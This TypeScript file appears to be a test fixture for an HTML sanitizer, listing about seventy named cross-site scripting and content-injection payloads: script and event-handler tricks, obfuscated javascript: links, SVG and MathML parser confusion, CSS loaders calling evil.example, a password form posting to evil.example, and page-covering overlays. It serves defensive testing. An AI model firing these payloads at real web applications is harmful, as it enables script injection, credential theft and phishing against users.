/** Attempts to run script, load, navigate or cover the page, each by a way of its own. Written by us. */
export const ATTACKS: readonly (readonly [name: string, html: string])[] = [
  ['script element', 'a<script>parent.alert(1)</script>b'],
  ['script with odd case and space', '<ScRiPt\n src="https://evil.example/x.js"\n></sCrIpT >'],
  ['script that is never closed', 'a<script>alert(1)'],
  ['script split by a dropped element', '<scr<script></script>ipt>alert(1)</scr</script>ipt>'],
  ['event handler', '<img src="cid:x" onerror="alert(1)" onload=alert(2)>'],
  ['event handler after a slash', '<img/src="cid:x"/onerror=alert(1)>'],
  ['event handler in odd case behind a line feed', '<div\nONMOUSEOVER=alert(1)\n>x</div>'],
  ['event handler behind a NUL', '<b on\u0000click=alert(1) \u0000onclick=alert(2)>x</b>'],
  [
    'event handler smuggled by a quote in an attribute',
    '<a title="&quot; onclick=&quot;alert(1)" href="https://x.example/&quot;onclick=alert(1)">x</a>',
  ],
  ['event handler inside an attribute name', '<b a"onclick="alert(1)">x</b>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link in odd case with entities', '<a href="&#106;aVa&#x53;cript&colon;alert(1)">x</a>'],
  ['javascript link with control characters', '<a href="\u0001java\tscr\nipt:alert(1)">x</a>'],
  ['javascript link with entities for control characters', '<a href="&#1;java&Tab;script&NewLine;:alert(1)">x</a>'],
  [
    'vbscript, data, file and blob links',
    '<a href="vbscript:x">1</a><a href="data:text/html,<script>alert(1)</script>">2</a><a href="file:///etc/passwd">3</a><a href="blob:x">4</a>',
  ],
  [
    'link relative to our page',
    '<a href="/api/tickets">x</a><a href="//evil.example">y</a><a href="#top">z</a><a href="?logout">w</a>',
  ],
  ['user name that poses as a host', '<a href="https://bank.example@evil.example/">bank.example</a>'],
  ['base', '<base href="https://evil.example/"><a href="x">y</a>'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">x'],
  ['frame', '<iframe src="https://evil.example"></iframe><frameset><frame src="javascript:alert(1)"></frameset>'],
  ['frame with a document of its own', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</iframe>'],
  [
    'object, embed and applet',
    '<object data="javascript:alert(1)"><param name=x></object><embed src="https://evil.example/x.swf"><applet code=x></applet>',
  ],
  [
    'form',
    '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">Senden</button></form>',
  ],
  [
    'autofocus',
    '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
  ],
  [
    'style element',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>x',
  ],
  [
    'style sheet',
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">',
  ],
  ['style that loads', '<div style="background:url(https://evil.example/p.gif);color:red">x</div>'],
  [
    'style that loads, escaped',
    '<div style="background:\\75rl(https://evil.example);list-style:u\\72l(x);color:red">x</div>',
  ],
  ['style that loads, commented', '<div style="background:u/**/rl(https://evil.example);color:/*x*/red">x</div>'],
  [
    'style that loads by image-set and cross-fade',
    '<div style="background-image:image-set(\'https://evil.example/a\' 1x);content:url(x);cursor:url(x),auto;list-style-image:url(x)">x</div>',
  ],
  [
    'style expression and behaviour',
    '<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</div>',
  ],
  [
    'style that covers the page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0">x</div>',
  ],
  [
    'style that leaves its place',
    '<div style="margin-top:-500px;margin:-1px;transform:translate(0,-500px);text-indent:-9999px">x</div>',
  ],
  ['style by variable', '<div style="--x:url(https://evil.example);background:var(--x)">x</div>'],
  [
    'style that closes the attribute',
    '<div style="color:red&quot;onclick=&quot;alert(1)">x</div><div style="font-family:\'&quot;><script>alert(1)</script>\'">y</div>',
  ],
  [
    'drawing with script',
    '<svg><script>alert(1)</script></svg><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  [
    'drawing with animation',
    '<svg><animate attributeName=href values="javascript:alert(1)"/><set attributeName=onmouseover to=alert(1)></svg>',
  ],
  [
    'drawing with foreign content',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  ],
  ['formula with a link', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  [
    'change of language within a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['change of language within a drawing', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'content that a browser reads differently without script',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  [
    'raw text elements',
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed><textarea><img src=x onerror=alert(1)></textarea>',
  ],
  ['raw text that ends early', '<title><a title="</title><img src=x onerror=alert(1)>">'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['comment that ends early', '<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(2)> -->'],
  [
    'conditional comment',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><script>alert(2)</script><![endif]>',
  ],
  ['character data section', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>x'],
  [
    'picture sources',
    '<picture><source srcset="https://evil.example/a"><img srcset="https://evil.example/b 2x" sizes=1 src="https://evil.example/c"></picture>',
  ],
  [
    'old ways to load a picture',
    '<table background="https://evil.example/a"><tr><td background="//evil.example/b">x</td></tr></table><img dynsrc="https://evil.example/c" lowsrc="https://evil.example/d" longdesc="https://evil.example/e">',
  ],
  [
    'picture that is a drawing',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html;base64,PHNjcmlwdD4=">',
  ],
  [
    'picture by javascript',
    '<img src="javascript:alert(1)"><img src="JaVaScRiPt&#58;alert(1)"><input type=image src="javascript:alert(1)">',
  ],
  ['picture from our own server', '<img src="/api/tickets/1/closure"><img src="../x"><img src="?x">'],
  [
    'forged waiting picture',
    '<img data-remote-src="javascript:alert(1)"><img data-remote-src="/api/x" src="cid:x"><p data-remote-src="https://evil.example">',
  ],
  [
    'media',
    '<video src="https://evil.example/a" poster="https://evil.example/b" autoplay onplay=alert(1)></video><audio src=x onerror=alert(1)><track src=x></audio>',
  ],
  [
    'names that hide properties of the page',
    '<img name="getElementById"><a id="location" name="cookie">x</a><form name=document></form>',
  ],
  ['custom element and slot', '<x-evil is="script" slot=a onclick=alert(1)>x</x-evil>'],
  ['popover and dialog', '<dialog open style="position:fixed">x</dialog><div popover=auto popovertarget=x>y</div>'],
  ['marquee', '<marquee onstart=alert(1) behavior=alternate>x</marquee>'],
  [
    'download and ping',
    '<a href="https://x.example/" ping="https://evil.example" download target=_top onclick=x rel=opener>x</a>',
  ],
  ['image map', '<img usemap="#m" src="cid:x"><map name=m><area shape=default href="javascript:alert(1)"></map>'],
  ['details that open by script', '<details open ontoggle=alert(1)><summary onclick=alert(2)>x</summary></details>'],
  ['element name with a quote', '<a"b onclick=alert(1)>x</a"b><a<b onclick=alert(2)>y'],
  ['attribute that never ends', '<a href="https://x.example/ onclick=alert(1)>x'],
  [
    'UTF-7 and other disguises',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<a href="feed:javascript:alert(1)">x</a><a href="view-source:https://x">y</a>',
  ],
];
